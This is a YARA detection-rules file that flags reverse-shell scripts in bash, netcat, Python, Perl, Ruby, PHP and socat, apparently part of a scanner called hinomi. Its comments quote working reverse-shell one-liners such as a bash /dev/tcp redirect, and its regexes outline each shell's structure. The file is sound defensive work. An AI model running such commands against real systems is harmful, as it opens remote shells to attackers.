/*
 * reverse_shells.yar - hinomi's own rules: scripts that connect out and
 * hand a shell to whoever is at the other end.  Written for hinomi; no
 * third-party text.  Each rule wants the connection and the shell wired to
 * it in one small file: a library that opens sockets, or one that spawns
 * shells, does not fire.
 */

rule revshell_bash_dev_tcp
{
    meta:
        description = "Reverse shell: an interactive shell redirected to /dev/tcp or /dev/udp"
        author = "hinomi"
        severity = "critical"
        tags = "attack.execution, attack.t1059.004, attack.command_and_control, attack.t1071"
    strings:
        // bash -i >& /dev/tcp/10.0.0.1/4444 0>&1 ; sh -i 5<> /dev/tcp/h/p
        $i = /(ba|da|z|k)?sh\s+-i\s+([0-9]?>&|&>|[0-9]<>|>)\s*\/dev\/(tcp|udp)\/[^\/\s"']{1,255}\/[0-9]{1,5}/
        // exec 5<>/dev/tcp/host/port ; cat <&5 | while read line; do $line 2>&5 >&5; done
        $fd = /exec\s+[0-9]{1,3}\s*<>\s*\/dev\/(tcp|udp)\/[^\/\s"']{1,255}\/[0-9]{1,5}/
        $loop = /while\s+read\s+\w+\s*;\s*do\s+\$\w+\s+2>&[0-9]\s+>&[0-9]/
        $sh0 = /\/bin\/(ba)?sh\s+(-i\s+)?[<>]&\s*[0-9]{1,3}\s+[<>]&\s*[0-9]{1,3}/
    condition:
        filesize < 1MB and ($i or ($fd and ($loop or $sh0)))
}

rule revshell_netcat_exec
{
    meta:
        description = "Reverse shell: netcat running a shell for the peer (-e/-c, or a fifo loop)"
        author = "hinomi"
        severity = "critical"
        tags = "attack.execution, attack.t1059.004, attack.command_and_control"
    strings:
        $e = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s+([^|;&\n]{0,64}\s)?-[a-z]{0,4}[ec]\s*['"]?\/bin\/(ba|da|z)?sh\b/
        $fifo = /mkfifo\s+\S{1,128}\s*;\s*(cat|tail\s+-f)\s+\S{1,128}\s*\|\s*\/bin\/(ba|da)?sh\s+-i\s*2>&1\s*\|\s*(nc|ncat|netcat)\s/
        $pipe = /\b(nc|ncat|netcat)\s+[^|;\n]{1,128}\|\s*\/bin\/(ba|da)?sh\s*(-i\s*)?\|\s*(nc|ncat|netcat)\s/
    condition:
        filesize < 1MB and ($e or $fifo or $pipe)
}

rule revshell_python_socket
{
    meta:
        description = "Reverse shell: Python connecting a socket and handing it a shell (dup2 with pty.spawn or subprocess)"
        author = "hinomi"
        severity = "critical"
        tags = "attack.execution, attack.t1059.006, attack.command_and_control"
    strings:
        $sock = /socket\s*\.\s*socket\s*\(/
        $conn = /\.\s*connect\s*\(\s*\(/
        $dup = /os\s*\.\s*dup2\s*\(\s*\w+\s*\.\s*fileno\s*\(\s*\)\s*,\s*[0-2]\s*\)/
        $pty = /pty\s*\.\s*spawn\s*\(\s*['"]\/bin\/(ba|da|z)?sh['"]/
        $sub = /subprocess\s*\.\s*(call|Popen|run|check_call)\s*\(\s*\[\s*['"]\/bin\/(ba|da|z)?sh['"]\s*,\s*['"]-i['"]/
        $subio = /subprocess\s*\.\s*(call|Popen|run)\s*\(\s*\[?\s*['"]\/bin\/(ba|da|z)?sh['"][^)]{0,200}stdin\s*=\s*\w+\s*\.\s*fileno\s*\(/
    condition:
        filesize < 512KB and $sock and $conn and
        (($dup and ($pty or $sub)) or $subio)
}

rule revshell_perl_socket
{
    meta:
        description = "Reverse shell: Perl connecting a socket, making it STDIN/STDOUT and running a shell"
        author = "hinomi"
        severity = "critical"
        tags = "attack.execution, attack.t1059.006, attack.command_and_control"
    strings:
        $conn = /connect\s*\(\s*\w+\s*,\s*sockaddr_in\s*\(/
        $io = /IO::Socket::INET\s*->\s*new\s*\(\s*(PeerAddr|["']?[0-9a-zA-Z.\-]{1,255}:[0-9]{1,5})/
        $stdin = /open\s*\(\s*STDIN\s*,\s*["']\s*[<>+]*&/
        $shell = /(exec|system)\s*\(?\s*["']\/bin\/(ba|da|z)?sh(\s+-i)?["']/
        $fdopen = /STDIN\s*->\s*fdopen\s*\(\s*\$\w+\s*,\s*["']r["']\s*\)/
    condition:
        filesize < 512KB and ($conn or $io) and ($stdin or $fdopen) and $shell
}

rule revshell_ruby_socket
{
    meta:
        description = "Reverse shell: Ruby TCPSocket handed to a shell"
        author = "hinomi"
        severity = "critical"
        tags = "attack.execution, attack.t1059, attack.command_and_control"
    strings:
        $sock = /TCPSocket\s*\.\s*(open|new)\s*\(/
        $fmt = /\/bin\/(ba|da|z)?sh\s+-i\s+<&%d\s+>&%d\s+2>&%d/
        $spawn = /(exec|spawn|system)\s*\(?\s*["']\/bin\/(ba|da|z)?sh["']\s*,\s*\[?\s*:in\s*=>/
        $io = /IO\s*\.\s*popen\s*\(\s*["']\/bin\/(ba|da|z)?sh/
    condition:
        filesize < 512KB and $sock and ($fmt or $spawn or $io)
}

rule revshell_php_fsockopen
{
    meta:
        description = "Reverse shell: PHP fsockopen with a shell on the socket's descriptors"
        author = "hinomi"
        severity = "critical"
        tags = "attack.execution, attack.t1059, attack.command_and_control"
    strings:
        $sock = /fsockopen\s*\(/
        $sh = /(exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*["']\/bin\/(ba|da|z)?sh\s+-i\s+<&[0-9]\s+>&[0-9]/
    condition:
        filesize < 512KB and $sock and $sh
}

rule revshell_socat_exec
{
    meta:
        description = "Reverse shell: socat joining a shell (exec/system) and a TCP connection"
        author = "hinomi"
        severity = "critical"
        tags = "attack.execution, attack.t1059.004, attack.command_and_control"
    strings:
        $a = /socat\s[^\n]{0,128}(exec|system):['"]?(\/bin\/)?(ba|da|z)?sh\b[^\n]{0,128}\stcp[46]?(-connect)?:[^\s:]{1,255}:[0-9]{1,5}/ nocase
        $b = /socat\s[^\n]{0,128}\stcp[46]?(-connect)?:[^\s:]{1,255}:[0-9]{1,5}\s[^\n]{0,128}(exec|system):['"]?(\/bin\/)?(ba|da|z)?sh\b/ nocase
    condition:
        filesize < 1MB and ($a or $b)
}
